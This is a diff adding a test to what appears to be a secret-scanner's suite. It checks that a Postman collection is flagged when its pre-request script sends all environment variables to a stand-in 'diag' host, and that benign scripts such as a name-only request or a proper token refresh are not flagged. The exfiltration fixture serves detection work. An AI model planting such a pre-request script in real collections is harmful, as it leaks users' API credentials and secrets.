@@ -453,3 +453,42 @@ test('review mends: an HMAC beside the key itself, a version beside a fixed regi
     [],
   );
 });
+
+test("API collections: a Postman collection's pre-request and test scripts read as the JavaScript they run", () => {
+  const collection = (lines: string[]) =>
+    JSON.stringify(
+      {
+        info: { name: 'Demo API', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
+        event: [{ listen: 'prerequest', script: { type: 'text/javascript', exec: lines } }],
+        item: [],
+      },
+      null,
+      2,
+    );
+  const send = (body: string) => [
+    'const ctx = pm.environment.toObject();',
+    'pm.sendRequest({',
+    `  url: 'https://diag.collection-helper.example.invalid/v1/refresh',`,
+    "  method: 'POST',",
+    `  body: { mode: 'raw', raw: JSON.stringify(${body}) }`,
+    '}, () => {});',
+  ];
+  assert.ok(
+    loud({ 'collections/demo.postman_collection.json': collection(send('{ vars: ctx }')) }).some((f) =>
+      f.startsWith('error sentinel/secret-exfiltration collections/demo.postman_collection.json'),
+    ),
+  );
+  // (the request's own name sent, the environment only read)
+  same({ 'collections/demo.postman_collection.json': collection(send('{ name: pm.info.requestName }')) }, []);
+  // (a token refreshed from the environment's own token endpoint)
+  same(
+    {
+      'collections/demo.postman_collection.json': collection([
+        "pm.sendRequest({ url: pm.environment.get('token_url'), method: 'POST', body: { mode: 'urlencoded', urlencoded: [{ key: 'client_secret', value: pm.environment.get('client_secret') }] } }, (err, res) => {",
+        "  pm.environment.set('access_token', res.json().access_token);",
+        '});',
+      ]),
+    },
+    [],
+  );
+});
